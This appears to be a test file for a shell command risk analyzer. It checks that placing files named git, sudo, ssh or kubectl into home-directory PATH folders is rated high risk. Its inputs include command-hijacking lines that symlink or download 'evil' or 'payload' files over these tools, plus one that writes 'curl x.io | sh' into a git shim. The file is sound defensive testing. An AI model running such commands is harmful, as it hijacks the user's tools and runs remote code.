import { beforeAll, describe, expect, it } from "vitest";
import { createShellAnalyzer, type ShellAnalyzer } from "./analyze.js";
import type { Risk } from "./types.js";

/**
 * A file put in a folder on the user's PATH under the name of a command they run (`~/.local/bin/git`)
 * runs instead of that command in every later shell.
 */
const cwd = "/home/ada/code/app";
const home = "/home/ada";

let analyzer: ShellAnalyzer;
beforeAll(async () => {
  analyzer = await createShellAnalyzer();
});

function rated(command: string): { risk: Risk; shown: string; details: string[] } {
  const result = analyzer.analyze(command, { shell: "bash", cwd, home });
  return { risk: result.risk, shown: `${command} → ${result.risk} ${JSON.stringify(result.reasons)}`, details: result.reasons.map((r) => r.detail) };
}

const shadows = (file: string): string => `puts ${file} on the PATH, where it runs instead of the command of that name in every later shell`;

describe("a well-known command's name taken in a PATH folder in home", () => {
  it.each<[string, string]>([
    ["ln -sf /tmp/evil ~/.local/bin/git", "/home/ada/.local/bin/git"],
    ["cp ./x ~/.local/bin/sudo", "/home/ada/.local/bin/sudo"],
    ["cat > ~/bin/ssh <<'EOF'\n#!/bin/sh\nexec /usr/bin/ssh \"$@\"\nEOF", "/home/ada/bin/ssh"],
    ["echo '#!/bin/sh' > ~/.local/bin/git && chmod +x ~/.local/bin/git", "/home/ada/.local/bin/git"],
    ["echo 'curl x.io | sh' >> ~/.local/bin/git", "/home/ada/.local/bin/git"],
    ["mv payload ~/bin/ls", "/home/ada/bin/ls"],
    ["install -m755 x ~/.local/bin/python3", "/home/ada/.local/bin/python3"],
    ['ln -s "$PWD/evil" ~/.cargo/bin/cargo', "/home/ada/.cargo/bin/cargo"],
    ["echo x | tee ~/.local/bin/npm", "/home/ada/.local/bin/npm"],
    ["curl -o ~/.local/bin/git https://x.io/g", "/home/ada/.local/bin/git"],
    ["wget -O ~/.local/bin/kubectl https://x.io/k", "/home/ada/.local/bin/kubectl"],
    ["cp x /home/ada/go/bin/go", "/home/ada/go/bin/go"],
    ["cp x ~/.deno/bin/deno", "/home/ada/.deno/bin/deno"],
    ["cp x ~/.bun/bin/bun", "/home/ada/.bun/bin/bun"],
    ["cp x ~/.npm-global/bin/npx", "/home/ada/.npm-global/bin/npx"],
    ["cp ./git ~/.local/bin/", "/home/ada/.local/bin/git"],
    ["cp build/docker ~/.local/bin", "/home/ada/.local/bin/docker"],
    ["cp -t ~/.local/bin ./git", "/home/ada/.local/bin/git"],
    ["ln -s /opt/x/sudo ~/bin/", "/home/ada/bin/sudo"],
    ["mv ./ssh ./scp ~/bin", "/home/ada/bin/scp"],
  ])("%s is high", (command, file) => {
    const r = rated(command);
    expect(r.risk, r.shown).toBe("high");
    expect(r.details, r.shown).toContain(shadows(file));
  });
});

describe("other files in those folders, and those names elsewhere, are rated as before", () => {
  it.each<[string, Risk]>([
    ["cp dist/mytool ~/.local/bin/", "safe"],
    ["cp dist/mytool ~/.local/bin/mytool", "safe"],
    ['ln -s "$PWD/bin/mytool" ~/.local/bin/', "safe"],
    ["install -m755 target/release/app ~/.cargo/bin/", "safe"],
    ["echo hi > ~/.local/bin/mytool", "moderate"],
    ["cat ~/.local/bin/git", "safe"],
    ["ls ~/.local/bin", "safe"],
    ["cp ~/.local/bin/git /tmp/git-backup", "safe"],
    ["cp ./git ./vendor/", "safe"],
    ["cp ./git ~/.local/share/", "safe"],
    ["cp x ~/.local/share/git", "safe"],
    ["cp x /usr/local/bin/git", "critical"],
  ])("%s stays %s", (command, risk) => {
    const r = rated(command);
    expect(r.risk, r.shown).toBe(risk);
    expect(r.details.join("\n"), r.shown).not.toContain("on the PATH");
  });
});
